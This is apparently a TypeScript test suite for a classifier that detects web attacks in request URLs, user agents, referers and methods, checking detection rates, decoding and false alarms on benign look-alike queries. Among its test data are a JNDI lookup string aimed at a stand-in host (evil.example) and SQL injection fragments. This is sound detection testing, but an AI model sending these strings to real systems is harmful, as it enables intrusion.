import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { ATTACK_CLASSES, namesOf } from '../../../src/findings/web-classes/classes.ts';
import {
  classesOfAgent,
  classesOfMethod,
  classesOfReferer,
  classesOfUrl,
} from '../../../src/findings/web-classes/classify.ts';
import { Decoder } from '../../../src/findings/web-classes/decoding.ts';
import { ROOT } from '../../support.ts';
import { attackRequests } from './attacks.ts';
import { BROWSERS } from './benign.ts';
import { classesOfAttack, measureClasses } from './measure.ts';
import { CLASSES_BEGIN, CLASSES_END } from './page.ts';
import { PAYLOADS } from './payloads.ts';

/** Of the attacks of each class so many are told as such at least; of ordinary requests so many are taken for attacks at most. */
const LEAST_FOUND = 0.95;
const MOST_ALARMS = 0.001;
/** Of the million requests of the page; the suite has all of them. */
const SOME = 20_000;

function decoded(text: string): string {
  const decoder = new Decoder();
  decoder.decode(text, 0, text.length, true);
  return decoder.text;
}

test('two thousand attacks and more are made, of every class', () => {
  const attacks = attackRequests();
  assert.ok(attacks.length >= 2000, String(attacks.length));
  assert.deepEqual(
    [...new Set(attacks.map(({ name }) => name))].sort(),
    ATTACK_CLASSES.map(({ name }) => name).sort(),
  );
});

test('attacks of each class are found in every encoding, and ordinary requests are let be', () => {
  const { classes, alarms, wrong } = measureClasses(SOME);
  for (const { name, attacks, found } of classes)
    assert.ok(found >= LEAST_FOUND * attacks, `${name}: ${found} of ${attacks}`);
  assert.ok(alarms <= MOST_ALARMS * SOME, JSON.stringify(wrong.slice(0, 5)));
});

test('the page of detection has the figures of the attacks as they are', async () => {
  const page = await readFile(join(ROOT, 'docs', 'reference', 'detection.md'), 'utf8');
  const rows = new Set(
    page
      .slice(page.indexOf(CLASSES_BEGIN), page.indexOf(CLASSES_END))
      .split('\n')
      .map((line) => line.split('|').slice(1, 4).join('|')),
  );
  const { classes } = measureClasses(0);
  for (const { name, attacks, found } of classes) {
    const cells = ` ${name} | ${attacks.toLocaleString('en')} | ${((100 * found) / attacks).toFixed(1)} % `;
    assert.ok(rows.has(cells), cells);
  }
});

test('the same payload without what makes it an attack is none', () => {
  for (const url of [
    '/search?q=union+select+committee',
    '/search?q=select+*+from+users',
    "/search?q=O'Reilly+and+Sons",
    "/search?q=rock+'n'+roll",
    "/odata?$filter=Name+eq+'Milk'+or+Price+lt+10",
    '/search?q=what+does+the+%3Cscript%3E+tag+do',
    '/search?q=%3Cb%3Ebold%3C/b%3E',
    '/search?q=what+is+/etc/passwd',
    '/docs/../docs/readme.md',
    '/login?ReturnUrl=https%3A%2F%2Fwww.example.com%2Fa.php%3Fid%3D1',
    '/list?fields=name|id|type|host',
    '/search?q=tom+%26+cat',
    '/search?q=php+system()+function',
    '/search?q=java.lang.Runtime+exec+example',
    '/search?q=union+select+t-shirt',
    "/search?q=union+select+'vintage'+shirt",
    '/item?product=Union+Select+T-Shirt',
    "/search?q=sql+server+waitfor+delay+'00:00:05'",
    '/search?q=select+@@version+meaning',
    '/search?q=select+*+from+users+where+id+%3D+1+tutorial',
    '/search?q=char(10)+in+excel',
    '/search?q=case+when+1=1+then+sql',
    '/search?q=mysql+into+outfile+permission+denied',
    '/search?q=xp_cmdshell+enable',
    '/search?q=benchmark(1000)+js',
    '/search?q=information_schema.tables+mysql',
    '/search?q=create+or+replace+function+postgres',
    '/item?page=update-profile&category=drop+shipping&order=created+desc,+id+asc',
    '/render?css=a{color:red}/*+x+*/.b{margin:0}&cb=function(a,b){return+a||b}',
    '/search?q=bash+-c+meaning',
    '/search?q=cmd+/c+vs+/k',
    '/search?q=python+__init__+vs+__new__',
    '/search?q=.htaccess+redirect',
    '/search?q=md5(1)+online',
    '/search?q=velocity+%23set+example',
    '/wiki/SQL_injection',
    '/javascript:void(0)',
    '/.well-known/acme-challenge/abc',
    '/a?b=1--2',
    '/',
    '',
    '-',
  ])
    assert.deepEqual(namesOf(classesOfUrl(url)), [], url);
});

test('words of several parameters do not add up', () => {
  assert.equal(classesOfUrl('/report?action=union&mode=select&table=users&from=1&order=or&x=1=1'), 0);
  assert.notEqual(classesOfUrl('/report?action=1+union+select+1,2'), 0);
});

test('what browsers and programs call themselves is no attack, whatever signs are in it', () => {
  for (const agent of BROWSERS) assert.equal(classesOfAgent(agent), 0, agent);
});

test('a page that was attacked is the referer of its images, which are no attack for that', () => {
  assert.equal(classesOfReferer("https://www.example.com/a?id=1'+or+'1'='1"), 0);
  assert.deepEqual(namesOf(classesOfReferer('${jndi:ldap://evil.example/a}')), ['java attack']);
});

test('ordinary methods are no attack, and TRACE and the beginning of TLS are', () => {
  for (const method of ['GET', 'POST', 'PROPFIND', 'RPC_IN_DATA', 'M-SEARCH', '-', ''])
    assert.equal(classesOfMethod(method), 0, method);
  for (const method of ['TRACE', 'connect', '\\x16\\x03\\x01'])
    assert.notEqual(classesOfMethod(method), 0, method);
});

test('a text is decoded as often as it was encoded, up to four times', () => {
  const quote = "' or 1=1";
  let text = quote;
  for (let times = 1; times <= 4; times++) {
    text = encodeURIComponent(text).replaceAll("'", '%27');
    assert.equal(decoded(text), quote, `${times} times`);
  }
  assert.notEqual(decoded(encodeURIComponent(encodeURIComponent(text))), quote);
});

test('signs are decoded from every way in which they are written', () => {
  assert.equal(
    decoded('%u0027%c0%a7%e0%80%a7%f0%80%80%a7&#39;&#x27;&apos;\\u0027\\x27%EF%BC%87'),
    "''''''''''",
  );
  assert.equal(decoded('a+b%20c%00d'), 'a b cd');
  assert.equal(decoded('%E6%97%A5%zz%4'), '日%zz%4');
  assert.equal(decoded('&copy;&lt=5'), '&copy;&lt=5');
});

test('any text is classified, and the same text always the same', () => {
  const payloads = Object.values(PAYLOADS).flat();
  const texts = fc.oneof(
    fc.string({ maxLength: 300 }),
    fc.string({ unit: 'binary', maxLength: 100 }),
    fc
      .array(fc.constantFrom(...payloads, '%', '&', "'", '<', '../', '${', '\0', '\ud800'), { maxLength: 8 })
      .map((all) => all.join('')),
  );
  fc.assert(
    fc.property(texts, (text) => {
      const set = classesOfUrl(text);
      assert.equal(classesOfUrl(text), set);
      assert.ok(set >= 0 && set < 512, String(set));
      assert.equal(classesOfAgent(text), classesOfAgent(text));
    }),
    { seed: 19, numRuns: 2000 },
  );
});

test('an attack stays one behind a long value, and among many others', () => {
  for (const { name, url } of attackRequests().filter(
    ({ encoding, url: sent }) => encoding === 'percent' && sent.includes('?'),
  )) {
    const padded = `${url}&pad=${'a'.repeat(20_000)}${'&x=1'.repeat(500)}`;
    assert.ok(namesOf(classesOfUrl(padded)).includes(name), url);
  }
});

test('a class is told by what was sent, not by the place where it was sent to', () => {
  for (const attack of attackRequests().filter(({ encoding }) => encoding === 'percent'))
    assert.equal(
      classesOfAttack({ ...attack, url: attack.url.replace(/^\/(?:product|index)\.php/, '/other') }) > 0,
      true,
      attack.url,
    );
});

test('names that every object of the language has are no elements, entities or commands', () => {
  for (const name of ['constructor', '__proto__', 'valueOf', 'toString', 'hasOwnProperty']) {
    for (const text of [`<${name} x=1>`, `&${name};`, `;${name} -x`, `' ${name}(1)`, `;${name} into`])
      assert.deepEqual(namesOf(classesOfUrl(`/a?q=${encodeURIComponent(text)}`)), [], text);
  }
});
